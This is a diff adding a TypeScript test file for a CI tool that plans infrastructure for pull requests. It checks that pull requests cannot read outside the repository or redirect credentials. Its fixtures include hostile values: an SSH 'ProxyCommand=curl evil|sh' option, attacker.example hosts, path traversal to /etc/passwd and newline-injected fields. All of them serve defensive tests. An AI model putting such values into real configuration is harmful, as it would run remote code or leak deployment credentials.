@@ -1,0 +1,222 @@
+/**
+ * The trusted half of pull-request plans: the pull request's environment files taken as git blobs
+ * (extends confined to the repository), the decision which environments the plan identity may
+ * plan, and the pull request found from the workflow_run event (every field checked).
+ */
+import { execFileSync, spawnSync } from 'node:child_process';
+import * as fs from 'node:fs';
+import * as path from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { loadEnvironment } from '../lib/config/load';
+import { extractEnvironments, gitReader, insideRepository } from '../lib/github/pr-files';
+import { changedPaths, decide } from '../lib/github/pr-plan';
+import { runInfo, selectPullRequest } from '../lib/github/pull-request';
+import { toArtifact } from '../lib/plan/artifact';
+import { parsePlan, PLACEHOLDER_PREFIX } from '../lib/plan/summary';
+import { placeholderEnv } from '../scripts/pr-plan';
+import { MINIMAL, tempDir } from './helpers';
+
+const root = path.resolve(__dirname, '..');
+
+function repoWith(files: Record<string, string | { link: string }>): { git: string; commit: string } {
+  const dir = tempDir();
+  const git = (...a: string[]) => execFileSync('git', ['-C', dir, ...a], { encoding: 'utf8', env: { ...process.env, GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@t', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@t' } }).trim();
+  git('init', '-q');
+  for (const [name, content] of Object.entries(files)) {
+    fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
+    if (typeof content === 'string') fs.writeFileSync(path.join(dir, name), content);
+    else fs.symlinkSync(content.link, path.join(dir, name));
+  }
+  git('add', '-A');
+  git('commit', '-qm', 'pr');
+  return { git: path.join(dir, '.git'), commit: git('rev-parse', 'HEAD') };
+}
+
+describe("the pull request's environment files, as blobs", () => {
+  const env = (name: string, ext?: string) => `${ext ? `extends: ${ext}\n` : ''}${MINIMAL.replace('name: test', `name: ${name}`)}`;
+  const { git, commit } = repoWith({
+    'environments/good.yaml': env('good', './base.yaml'),
+    'environments/base.yaml': 'partial: true\nsecrets: [DB_PASSWORD, JWT_SECRET]\n',
+    'environments/shared.yaml': env('shared', '../shared/common.yaml'),
+    'shared/common.yaml': 'partial: true\n',
+    'environments/escape.yaml': env('escape', '../../../../../../etc/passwd'),
+    'environments/absolute.yaml': env('absolute', '/etc/passwd'),
+    'environments/via.yaml': env('via', './escape.yaml'),
+    'environments/missing.yaml': env('missing', './nope.yaml'),
+    'environments/linked.yaml': env('linked', './link.yaml'),
+    'environments/link.yaml': { link: '/etc/passwd' },
+    'environments/big.yaml': `${env('big')}# ${'x'.repeat(300 * 1024)}\n`,
+    'environments/notes.txt': 'not an environment',
+    'lib/evil.ts': 'process.exit(1)',
+  });
+
+  it('writes only regular YAML files whose whole extends chain stays in the repository', () => {
+    const out = tempDir();
+    const r = extractEnvironments(gitReader(git), commit, out);
+    expect(r.written.sort()).toEqual(['environments/base.yaml', 'environments/good.yaml', 'environments/shared.yaml', 'shared/common.yaml']);
+    expect(Object.fromEntries(r.refused.map((x) => [x.file, x.reason]))).toEqual({
+      'environments/absolute.yaml': 'environments/absolute.yaml extends "/etc/passwd", which leaves the repository tree',
+      'environments/big.yaml': 'environments/big.yaml is larger than 262144 bytes',
+      'environments/escape.yaml': 'environments/escape.yaml extends "../../../../../../etc/passwd", which leaves the repository tree',
+      'environments/link.yaml': 'environments/link.yaml is a symbolic link',
+      'environments/linked.yaml': 'environments/link.yaml is a symbolic link',
+      'environments/missing.yaml': 'environments/nope.yaml does not exist in the pull request',
+      'environments/via.yaml': 'environments/escape.yaml extends "../../../../../../etc/passwd", which leaves the repository tree',
+    });
+    // nothing else reached the disk, and what did is a regular file the loader can read
+    const onDisk = execFileSync('find', [out, '-mindepth', '1'], { encoding: 'utf8' }).trim().split('\n').map((f) => path.relative(out, f)).sort();
+    expect(onDisk).toEqual(['environments', 'environments/base.yaml', 'environments/good.yaml', 'environments/shared.yaml', 'shared', 'shared/common.yaml']);
+    expect(loadEnvironment(path.join(out, 'environments', 'good.yaml')).config.name).toBe('good');
+  });
+
+  it('refuses a commit that is not a full SHA', () => {
+    expect(() => extractEnvironments(gitReader(git), 'HEAD', tempDir())).toThrow(/40-hex/);
+    expect(insideRepository('environments/../x.yaml')).toBe(false);
+    expect(insideRepository('a/b.yaml')).toBe(true);
+  });
+});
+
+describe('what the plan identity may plan', () => {
+  const base = loadEnvironment(path.join(root, 'environments', 'production.yaml')).config;
+  const withHosts = (hosts: object) => ({ ...base, hosts } as typeof base);
+
+  it('plans a pull request that leaves the security-relevant settings alone', () => {
+    const pr = { ...base, services: {} } as typeof base;
+    expect(decide('production', base, pr)).toEqual({ name: 'production', plan: true });
+  });
+
+  it('refuses, naming the setting, when the pull request moves the credentials elsewhere', () => {
+    const cases: [object, string][] = [
+      [withHosts({ core: { ...base.hosts.core, docker: 'ssh://deploy@attacker.example:22' } }), 'hosts.core.docker'],
+      [withHosts({ core: { ...base.hosts.core, sshOptions: ['-o', 'ProxyCommand=curl evil|sh'] } }), 'hosts.core.sshOptions.1'],
+      [{ ...base, state: { ...base.state, endpoint: 'https://attacker.example' } }, 'state.endpoint'],
+      [{ ...base, registries: [] }, 'registries.0'],
+      [{ ...base, github: { ...base.github, owner: 'attacker' } }, 'github.owner'],
+    ];
+    for (const [pr, path] of cases) {
+      const d = decide('production', base, pr as typeof base);
+      expect(d.plan, path).toBe(false);
+      expect(d.reason).toContain(path);
+      expect(d.reason).toContain('a maintainer must plan it');
+    }
+  });
+
+  it('refuses new, removed, unloadable and locally-stated environments', () => {
+    expect(decide('x', undefined, base).reason).toMatch(/not an environment of the default branch/);
+    expect(decide('production', base, undefined).reason).toMatch(/removed or renamed/);
+    expect(decide('production', base, undefined, 'extends leaves the tree').reason).toContain('extends leaves the tree');
+    expect(decide('production', { ...base, state: { backend: 'local' } } as typeof base, base).reason).toMatch(/no state to plan against/);
+    expect(changedPaths({ a: [1, 2] }, { a: [1, 3] })).toEqual(['a.1']);
+  });
+
+  it('gives tofu a placeholder for every secret, never a value', () => {
+    expect(placeholderEnv({ variable: { DB_PASSWORD: { sensitive: true }, RELEASE_TAG: {} } })).toEqual({ TF_VAR_DB_PASSWORD: `${PLACEHOLDER_PREFIX}DB_PASSWORD` });
+  });
+});
+
+describe('the pull request of a workflow_run', () => {
+  const sha = 'a'.repeat(40);
+  const event = (run: object) => ({ workflow_run: { id: 42, event: 'pull_request', head_sha: sha, head_branch: 'feature/x', head_repository: { owner: { login: 'forker' } }, pull_requests: [], ...run } });
+
+  it('same repository: the one the event lists with the same head', () => {
+    const info = runInfo(event({ pull_requests: [{ number: 7, head: { sha } }, { number: 8, head: { sha: 'b'.repeat(40) } }] }), 'acme/platform');
+    expect(selectPullRequest(info)).toEqual({ number: 7, headSha: sha });
+  });
+
+  it('forks: the open pull request of this repository with exactly that head', () => {
+    const info = runInfo(event({}), 'acme/platform');
+    const pr = (number: unknown, over: object = {}) => ({ number, state: 'open', head: { sha }, base: { repo: { full_name: 'acme/platform' } }, ...over });
+    expect(selectPullRequest(info, [pr(12), pr(13, { head: { sha: 'c'.repeat(40) } }), pr(14, { base: { repo: { full_name: 'other/repo' } } })])).toEqual({ number: 12, headSha: sha });
+    expect(() => selectPullRequest(info, [])).toThrow(/no open pull request/);
+    expect(() => selectPullRequest(info, [pr(12), pr(15)])).toThrow(/several pull requests/);
+    expect(() => selectPullRequest(info, [pr('12\n13'), pr(-1), pr(1e12), pr(0)])).toThrow(/no open pull request/);
+  });
+
+  it('refuses an event with a malformed field', () => {
+    const bad: [object, RegExp][] = [
+      [{ event: 'push' }, /not pull_request/],
+      [{ head_sha: 'abc' }, /head_sha/],
+      [{ head_sha: `${sha}\nx=1` }, /head_sha/],
+      [{ head_branch: 'x\ny' }, /head_branch/],
+      [{ head_branch: '../x' }, /head_branch/],
+      [{ head_repository: { owner: { login: 'a b' } } }, /owner/],
+      [{ id: '42' }, /run id/],
+    ];
+    for (const [over, msg] of bad) expect(() => runInfo(event(over), 'acme/platform')).toThrow(msg);
+    expect(() => runInfo(event({}), 'acme/platform\n')).toThrow(/GITHUB_REPOSITORY/);
+  });
+
+  it('the find-pr command writes only checked values for $GITHUB_OUTPUT', () => {
+    const d = tempDir();
+    fs.writeFileSync(path.join(d, 'event.json'), JSON.stringify(event({ pull_requests: [{ number: 7, head: { sha } }] })));
+    const run = (ev: string) => spawnSync(process.execPath, [path.join(root, 'dist', 'scripts', 'pr-plan.js'), 'find-pr', '--out', path.join(d, 'out')], { encoding: 'utf8', env: { ...process.env, GITHUB_EVENT_PATH: ev, GITHUB_REPOSITORY: 'acme/platform' } });
+    expect(run(path.join(d, 'event.json')).status).toBe(0);
+    expect(fs.readFileSync(path.join(d, 'out'), 'utf8')).toBe(`number=7\nhead_sha=${sha}\n`);
+    fs.writeFileSync(path.join(d, 'bad.json'), JSON.stringify(event({ head_sha: 'x' })));
+    const bad = run(path.join(d, 'bad.json'));
+    expect(bad.status).toBe(1);
+    expect(bad.stderr).toBe('pr-plan: workflow_run event: head_sha is not 40 hex digits\n');
+  });
+});
+
+describe('the comment from the artifacts', () => {
+  const cli = path.join(root, 'dist', 'scripts', 'pr-plan.js');
+  const setup = (untrusted: string | undefined) => {
+    const d = tempDir();
+    const dec = path.join(d, 'trusted', 'pr-environments', 'decisions');
+    fs.mkdirSync(dec, { recursive: true });
+    fs.writeFileSync(path.join(dec, 'decisions.json'), JSON.stringify([{ name: 'production', plan: false, reason: 'changes hosts.core.docker' }, { name: 'staging', plan: true }, { name: 'qa', plan: true }]));
+    fs.writeFileSync(path.join(dec, 'notes.json'), JSON.stringify(['production is not planned with the plan identity: it changes hosts.core.docker.']));
+    fs.mkdirSync(path.join(d, 'trusted', 'plan-staging'));
+    const fixture = parsePlanFixture('postgres-major', 'staging');
+    fs.writeFileSync(path.join(d, 'trusted', 'plan-staging', 'plan-staging.json'), toArtifact([fixture]));
+    fs.mkdirSync(path.join(d, 'untrusted'));
+    if (untrusted !== undefined) fs.writeFileSync(path.join(d, 'untrusted', 'synth-diff.json'), untrusted);
+    const r = spawnSync(process.execPath, [cli, 'render', '--trusted', path.join(d, 'trusted'), '--untrusted', path.join(d, 'untrusted', 'synth-diff.json'), '--out', path.join(d, 's.md'), '--meta', path.join(d, 'm.json')], { encoding: 'utf8' });
+    return { r, md: fs.existsSync(path.join(d, 's.md')) ? fs.readFileSync(path.join(d, 's.md'), 'utf8') : '', meta: fs.existsSync(path.join(d, 'm.json')) ? JSON.parse(fs.readFileSync(path.join(d, 'm.json'), 'utf8')) : undefined };
+  };
+
+  it('shows the trusted plans, the labelled synth diff, and notes for what was not planned or failed', () => {
+    const { r, md, meta } = setup(toArtifact([{ name: 'production', changes: [] }]));
+    expect(r.status).toBe(3); // the staging plan replaces the database
+    expect(md).toContain("**staging**: 1 to add, 0 to change, 1 to replace, 1 to destroy (planned by the base branch's code with the read-only plan identity)");
+    expect(md).toContain("**production**: no changes (structural diff computed by the pull request's own code)");
+    expect(md).toContain('> production is not planned with the plan identity: it changes hosts.core.docker.');
+    expect(md).toContain("> qa: the plan with the plan identity failed; read the plan-qa job's log.");
+    expect(meta).toEqual({ dataLoss: true, destroy: true, changes: true, truncated: false });
+  });
+
+  it('a missing or forged synth diff is a note, never a failure or raw content', () => {
+    for (const bad of [undefined, '{"kind":"stackyard-plan-summary","version":1,"plans":[{"name":"x","changes":[],"run":"sh"}]}']) {
+      const { r, md } = setup(bad);
+      expect(r.status, String(bad)).toBe(3);
+      expect(md).toMatch(/> The pull request's structural diff could not be read: /);
+      expect(md).not.toMatch(/\*\*x\*\*/);
+    }
+  });
+});
+
+function parsePlanFixture(fixture: string, name: string) {
+  return parsePlan(name, fs.readFileSync(path.join(root, 'test', 'fixtures', 'plans', `${fixture}.json`), 'utf8'));
+}
+
+describe('the plan job installs its SSH access (the old plan job never did)', () => {
+  const cli = path.join(root, 'dist', 'scripts', 'pr-plan.js');
+  it('writes each host\'s plan key, the pinned known_hosts and an ssh_config that uses only them', () => {
+    const home = tempDir();
+    const r = spawnSync(process.execPath, [cli, 'ssh', 'production'], { cwd: root, encoding: 'utf8', env: { ...process.env, HOME: home, STACKYARD_PLAN_SSH_KEY_CORE: '-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n-----END OPENSSH PRIVATE KEY-----' } });
+    expect(r.stderr).toBe('');
+    expect(r.status).toBe(0);
+    const dir = path.join(home, '.ssh', 'stackyard-plan');
+    expect(fs.statSync(path.join(dir, 'core')).mode & 0o777).toBe(0o600);
+    expect(fs.readFileSync(path.join(dir, 'core'), 'utf8')).toMatch(/fake\n-----END OPENSSH PRIVATE KEY-----\n$/);
+    const hostKey = loadEnvironment(path.join(root, 'environments', 'production.yaml')).config.hosts.core.hostKey;
+    expect(fs.readFileSync(path.join(dir, 'known_hosts'), 'utf8')).toBe(`core.example.com ${hostKey}\n`);
+    expect(fs.readFileSync(path.join(home, '.ssh', 'config'), 'utf8')).toContain(`Host core.example.com\n  User deploy\n  Port 22\n  IdentityFile ${path.join(dir, 'core')}\n  IdentitiesOnly yes\n  StrictHostKeyChecking yes\n  UserKnownHostsFile ${path.join(dir, 'known_hosts')}`);
+  });
+  it('names the missing secret', () => {
+    const r = spawnSync(process.execPath, [cli, 'ssh', 'staging'], { cwd: root, encoding: 'utf8', env: { ...process.env, HOME: tempDir(), STACKYARD_PLAN_SSH_KEY_CORE: '' } });
+    expect(r.status).toBe(1);
+    expect(r.stderr).toBe('pr-plan: secret STACKYARD_PLAN_SSH_KEY_CORE is not set in the staging-plan environment: the plan identity\'s SSH key for host core (see npm run plan-identity)\n');
+  });
+});
